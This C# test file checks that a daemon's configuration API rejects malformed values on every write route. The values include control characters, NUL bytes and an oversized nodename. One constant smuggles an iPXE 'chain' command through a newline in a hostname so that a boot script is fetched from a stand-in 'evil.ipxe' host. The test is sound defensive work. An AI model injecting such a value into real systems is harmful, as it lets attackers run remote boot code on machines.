// Values checked for where they are used, through the API: every write route answers 400 naming the URL and the rule.
using System.Net;
using System.Text;
using System.Text.Json;
using Kraken.Tree.State;

namespace Kraken.Daemon.Tests.Api;

[Trait("Category", "Network")]
public sealed class ValueRuleApiTests : RootDaemonTestBase
{
    private const string Injection = "t1a\nchain http://198.18.0.66/evil.ipxe";

    private static async Task<JsonElement> AssertProblem(HttpResponseMessage response, string url, string rule)
    {
        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
        var problem = JsonDocument.Parse(await response.Content.ReadAsStringAsync()).RootElement.Clone();
        var text = problem.GetRawText();
        Assert.Contains(url, text, StringComparison.Ordinal);
        Assert.Contains(rule, text, StringComparison.Ordinal);
        return problem;
    }

    [Fact]
    public async Task A_newline_in_the_host_name_is_refused_with_400_on_every_write_route()
    {
        var before = D.Daemon.Store.Sequence;
        var cfg = D.Daemon.Store.GetRequired(StateView.Cfg, NodeId.Parse(TestDaemon.T1a, null));
        var t1a = $"/api/v1/cfg/nodes/{TestDaemon.T1a}";
        var injection = JsonSerializer.Serialize(Injection);

        var one = await AssertProblem(await D.Authorized.PutAsync($"{t1a}/values/Extensions/IPv4/Hostname", Json($$"""{"value": {{injection}}}""")), "/Extensions/IPv4/Hostname", "control character");
        Assert.Equal("/Extensions/IPv4/Hostname", one.GetProperty("url").GetString());
        await AssertProblem(await D.Authorized.PatchAsync(t1a, Json($$"""{"/Extensions/IPv4/Hostname": {{injection}}}""")), "/Extensions/IPv4/Hostname", "control character");
        await AssertProblem(await D.Authorized.PatchAsync(t1a, Json("""{"/Extensions/IPv4/Hostname": "t1a x"}""")), "/Extensions/IPv4/Hostname", "RFC 1123");
        await AssertProblem(
            await D.Authorized.PutAsync(t1a, Json("""{"id": "ID", "nodename": "t1a", "extensions": {"IPv4": {"hostname": HOSTNAME}}}""".Replace("ID", TestDaemon.T1a, StringComparison.Ordinal).Replace("HOSTNAME", injection, StringComparison.Ordinal))),
            "/Extensions/IPv4/Hostname",
            "control character");
        var created = await AssertProblem(
            await D.Authorized.PostAsync("/api/v1/cfg/nodes", Json($$"""{"id": "00000000-0000-4000-8000-00000000c101", "nodename": {{injection}}}""")),
            "/Nodename",
            "control character");
        Assert.Contains("00000000-0000-4000-8000-00000000c101", created.GetProperty("errors")[0].GetString(), StringComparison.Ordinal);
        await AssertProblem(
            await D.Authorized.PostAsync("/api/v1/cfg/bulk", Json("""{"all": true, "set": {"/Platform": "a\u0000b"}}""")),
            "/Platform",
            "control character");

        Assert.Equal(before, D.Daemon.Store.Sequence);
        Assert.Same(cfg, D.Daemon.Store.GetRequired(StateView.Cfg, NodeId.Parse(TestDaemon.T1a, null)));
    }

    [Fact]
    public async Task A_20_MB_nodename_is_refused_naming_the_url_and_its_limit()
    {
        var before = D.Daemon.Store.Sequence;
        var huge = new StringBuilder(20 * 1024 * 1024 + 32).Append("{\"/Nodename\": \"").Append('n', 20 * 1024 * 1024).Append("\"}").ToString();
        var problem = await AssertProblem(await D.Authorized.PatchAsync($"/api/v1/cfg/nodes/{TestDaemon.T1a}", Json(huge)), "/Nodename", $"longer than {ValueRules.MaxNameBytes} bytes");
        Assert.True(problem.GetRawText().Length < 2000, "the answer does not echo the value");
        Assert.Equal(before, D.Daemon.Store.Sequence);
        Assert.Equal("t1a", D.Daemon.Store.GetRequired(StateView.Cfg, NodeId.Parse(TestDaemon.T1a, null)).Nodename);
    }
}
